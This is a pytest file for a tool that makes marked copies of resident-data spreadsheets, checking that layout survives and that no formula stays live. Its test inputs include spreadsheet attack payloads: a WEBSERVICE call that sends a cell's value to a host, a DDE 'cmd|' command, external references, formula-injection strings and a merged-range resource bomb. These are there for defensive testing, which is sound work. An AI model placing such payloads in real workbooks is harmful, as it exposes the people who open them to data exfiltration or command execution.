"""The marked copy keeps the office's layout, holds no live formula, and leads to every problem."""

from __future__ import annotations

import io
import zipfile
from datetime import UTC, datetime
from typing import Any

import openpyxl
import pytest
from openpyxl.comments import Comment
from openpyxl.styles import Font

from planner.errors import Finding, Severity, SheetError
from planner.render.books.marked import Grid, Spot, mark_rows, mark_workbook
from planner.render.text.check_words import completed, refusals_of

SUMMARY = [("数据体检", "a.xlsx")]


def finding(severity: Severity = Severity.HOLD, what: str = "what is wrong") -> Finding:
    """Give a finding with all its texts."""
    return completed(
        Finding("some-code", severity, what, "有问题", file="a.xlsx", sheet="居民", row=3)
    )


def book_bytes(**cells: Any) -> bytes:
    """Write a workbook with a styled sheet."""
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = "居民"
    sheet["A1"], sheet["A2"], sheet["B2"] = "居民信息表", "编号", "地址"
    sheet["A1"].font = Font(bold=True, size=18)
    sheet.merge_cells("A1:B1")
    sheet.merge_cells("B3:B5")
    sheet.column_dimensions["B"].width = 41
    sheet.freeze_panes = "A3"
    for name, value in cells.items():
        sheet[name] = value
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def opened(data: bytes) -> Any:
    """Open a marked copy."""
    return openpyxl.load_workbook(io.BytesIO(data))


def test_the_layout_is_kept() -> None:
    """Merged cells, widths, fonts and frozen panes stay; the list comes first."""
    book = opened(mark_workbook(book_bytes(), [Spot(finding(), "居民", 3, 1)], SUMMARY))
    assert book.sheetnames == ["体检结果", "居民"]
    sheet = book["居民"]
    assert {str(a) for a in sheet.merged_cells.ranges} == {"A1:B1", "B3:B5"}
    assert sheet.column_dimensions["B"].width == 41
    assert sheet["A1"].font.size == 18
    assert sheet.freeze_panes == "A3"


def test_cells_are_marked_by_the_gravest() -> None:
    """Fill and comment stand on the cell; a merged cell is marked at its first; both texts are there."""
    spots = [
        Spot(finding(Severity.FIX, "mild"), "居民", 4, 2),
        Spot(finding(Severity.STOP, "grave"), "居民", 5, 2),
    ]
    sheet = opened(mark_workbook(book_bytes(B3="甲路"), spots, SUMMARY))["居民"]
    assert sheet["B3"].fill.fgColor.rgb == "FFF4A6A0"
    text = sheet["B3"].comment.text
    assert text.index("grave") < text.index("mild")
    assert "有问题" in text
    assert sheet["A3"].fill.fill_type is None


def test_the_list_leads_to_the_cell() -> None:
    """Each line has an inner link; no link leads out of the file."""
    book = opened(mark_workbook(book_bytes(), [Spot(finding(), "居民", 3, 1)], SUMMARY))
    links = [c.hyperlink for row in book["体检结果"] for c in row if c.hyperlink]
    assert [link.location for link in links] == ["'居民'!A3"]
    assert all(link.target is None for link in links)


def test_the_office_may_have_such_a_sheet_already() -> None:
    """H-PATH: sheet names stay unique and valid, whatever a layer is called."""
    grids = [
        Grid("体检结果", [["a"]]),
        Grid("../../etc/x", [["b"]]),
        Grid("x" * 60, [["c"]]),
        Grid("X" * 60, [["d"]]),
    ]
    names = opened(mark_rows(grids, [], SUMMARY)).sheetnames
    assert names[0] == "体检结果-2"
    assert len({n.casefold() for n in names}) == 5
    assert all(len(n) <= 31 and "/" not in n for n in names)


@pytest.mark.parametrize(
    "text",
    ["=1+1", '=HYPERLINK("http://x")', "+1", "-2+3", "@SUM", "\t=1", "＝1", "{=1+1}", "#N/A"],
)
def test_text_stays_text(text: str) -> None:
    """H-FORMULA: text that looks like a formula is stored as text, in copies of either making."""
    for data in (
        mark_rows([Grid("居民", [["编号"], [text]])], [], SUMMARY),
        mark_workbook(mark_rows([Grid("居民", [["编号"], [text]])], [], SUMMARY), [], SUMMARY),
    ):
        cell = opened(data)["居民"]["A2"]
        assert cell.data_type == "s"
        assert cell.value == text
        assert cell.hyperlink is None


def test_formulas_become_what_they_showed() -> None:
    """A copy computes nothing: the stored result stands in place of the formula."""
    import xlsxwriter

    buffer = io.BytesIO()
    with xlsxwriter.Workbook(buffer, {"in_memory": True}) as book:
        sheet = book.add_worksheet("居民")
        sheet.write_formula(0, 0, "=1+1", None, 2)
        sheet.write_formula(1, 0, '="="&"1"', None, "=1")
        sheet.write_url(2, 0, "http://example.invalid/x", string="look")
    sheet = opened(mark_workbook(buffer.getvalue(), [], SUMMARY))["居民"]
    assert [sheet.cell(r, 1).value for r in (1, 2, 3)] == [2, "=1", "look"]
    assert {sheet.cell(r, 1).data_type for r in (2, 3)} == {"s"}
    assert sheet["A3"].hyperlink is None


def test_the_offices_own_comments_stay() -> None:
    """A remark of the office is not overwritten."""
    book = openpyxl.load_workbook(io.BytesIO(book_bytes(A3="1")))
    book["居民"]["A3"].comment = Comment("老备注", "某")
    buffer = io.BytesIO()
    book.save(buffer)
    sheet = opened(mark_workbook(buffer.getvalue(), [Spot(finding(), "居民", 3, 1)], SUMMARY))[
        "居民"
    ]
    assert sheet["A3"].comment.text.startswith("老备注")
    assert "what is wrong" in sheet["A3"].comment.text


def test_control_characters_do_not_stop_the_copy() -> None:
    """C-CTRL: what a workbook cannot hold is left out of the copy."""
    sheet = opened(mark_rows([Grid("居民", [["甲\x0b路\x00\ud8001号"]])], [], SUMMARY))["居民"]
    assert sheet["A1"].value == "甲路1号"


def test_a_workbook_that_cannot_be_copied_is_told() -> None:
    """The caller lays the rows out anew then."""
    with pytest.raises(ValueError, match="cannot be copied"):
        mark_workbook(b"PK\x03\x04 no", [], SUMMARY)


def test_a_file_that_could_not_be_read_has_its_list() -> None:
    """Without rows the list stands alone."""
    spot = Spot(refusals_of(SheetError.of("encrypted", name="a.xlsx"), "a.xlsx")[0])
    book = opened(mark_rows([], [spot], SUMMARY))
    assert book.sheetnames == ["体检结果"]
    assert "a.xlsx 已加密" in [c.value for row in book["体检结果"] for c in row]


def test_a_merged_range_that_spans_a_sheet_is_refused() -> None:
    """H-BOMB: a few bytes must not be laid out as seventeen thousand million cells."""
    old, buffer = zipfile.ZipFile(io.BytesIO(book_bytes())), io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as new:
        for name in old.namelist():
            new.writestr(name, old.read(name).replace(b'ref="B3:B5"', b'ref="A1:XFD1048576"'))
    with pytest.raises(ValueError, match="merged ranges"):
        mark_workbook(buffer.getvalue(), [], SUMMARY)


def test_odd_values_of_layers_are_laid_out() -> None:
    """Not-a-number is blank; infinity, long numbers and dates with a zone are text."""
    day = datetime(2024, 1, 1, tzinfo=UTC)
    row = [float("nan"), float("inf"), 110101199003078515, day, True, b"=1", 1.5]
    sheet = opened(mark_rows([Grid("居民", [row])], [], SUMMARY))["居民"]
    values = [sheet.cell(1, c).value for c in range(1, 8)]
    assert values == [None, "inf", "110101199003078515", str(day), True, "=1", 1.5]
    assert sheet["F1"].data_type == "s"


def test_what_an_office_sets_up_in_a_sheet_stays() -> None:
    """Number formats, filters, lists to choose from, hidden columns, print titles, other sheets, names."""
    from openpyxl.workbook.defined_name import DefinedName
    from openpyxl.worksheet.datavalidation import DataValidation

    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = "居民"
    for row in (["编号", "地址", "是否"], [1, "甲路1号", "是"], [2, None, "否"]):
        sheet.append(row)
    sheet["A2"].number_format = "000000"
    sheet.auto_filter.ref = "A1:C3"
    sheet.column_dimensions["C"].hidden = True
    sheet.row_dimensions[1].height = 31
    sheet.print_title_rows = "1:1"
    sheet.page_setup.orientation = "landscape"
    choose = DataValidation(type="list", formula1='"是,否"')
    choose.add("C2:C3")
    sheet.add_data_validation(choose)
    book.create_sheet("旧").sheet_state = "hidden"
    book["旧"]["A1"] = "旧名单"
    book.defined_names["范围"] = DefinedName("范围", attr_text="居民!$A$1:$C$3")
    buffer = io.BytesIO()
    book.save(buffer)
    column = Finding("id-float", Severity.FIX, "a", "甲", column="编号")
    made = mark_workbook(buffer.getvalue(), [Spot(column, "居民", 1, 1)], [("a", "b")])
    copy = openpyxl.load_workbook(io.BytesIO(made))
    assert copy.sheetnames == ["体检结果", "居民", "旧"]
    assert copy["旧"].sheet_state == "hidden"
    assert copy["旧"]["A1"].value == "旧名单"
    kept = copy["居民"]
    assert kept["A2"].number_format == "000000"
    assert kept.auto_filter.ref == "A1:C3"
    assert kept.column_dimensions["C"].hidden
    assert kept.row_dimensions[1].height == 31
    assert kept.print_title_rows == "$1:$1"
    assert kept.page_setup.orientation == "landscape"
    assert [v.formula1 for v in kept.data_validations.dataValidation] == ['"是,否"']
    assert list(copy.defined_names) == ["范围"]
    assert [c.value for c in copy["体检结果"]["C"] if c.value][-1] == "整列 all"


CALLING = (
    '=WEBSERVICE("http://127.0.0.1:1/?"&A1)', "INDIRECT(A1)", "[1]Other!$A$1", "'http://127.0.0.1/[x.xlsx]a'!A1",
    "cmd|'/c calc'!A0", 'HYPERLINK("http://x","y")', "OFFSET(A1,1,1)", "'C:\\[x.xlsx]a'!$A$1:$A$2",
)  # fmt: skip


@pytest.mark.parametrize("formula", CALLING)
def test_nothing_in_a_copy_computes_or_calls(formula: str) -> None:
    """Formulas stand in validations, in conditional formats and behind names too: there they go."""
    from openpyxl.formatting.rule import CellIsRule, FormulaRule
    from openpyxl.styles import PatternFill
    from openpyxl.workbook.defined_name import DefinedName
    from openpyxl.worksheet.datavalidation import DataValidation

    book = openpyxl.Workbook()
    sheet = book.worksheets[0]
    sheet.append(["编号", "地址"])
    fill = PatternFill("solid", fgColor="FFFF0000")
    choose = DataValidation(type="list", formula1=formula)
    choose.add("A2:A9")
    sheet.add_data_validation(choose)
    sheet.conditional_formatting.add("A1:A9", FormulaRule(formula=[formula], fill=fill))
    sheet.conditional_formatting.add("B1:B9", CellIsRule("equal", [formula], fill=fill))
    sheet.conditional_formatting.add("B1:B9", CellIsRule("greaterThan", ["5"], fill=fill))
    book.defined_names["a"] = DefinedName("a", attr_text=formula.lstrip("="))
    sheet.defined_names["b"] = DefinedName("b", attr_text=formula.lstrip("="))
    buffer = io.BytesIO()
    book.save(buffer)
    made = mark_workbook(buffer.getvalue(), [], [("a", "b")])
    with zipfile.ZipFile(io.BytesIO(made)) as archive:
        parts = "".join(archive.read(n).decode("utf-8", "replace") for n in archive.namelist())
    assert not any(
        word in parts
        for word in ("WEBSERVICE", "INDIRECT", "127.0.0.1", "cmd|", "OFFSET", "HYPERLINK(")
    )
    assert "[x.xlsx]" not in parts
    assert "definedName " not in parts
    assert "<formula>5</formula>" in parts.replace("<x:", "<")
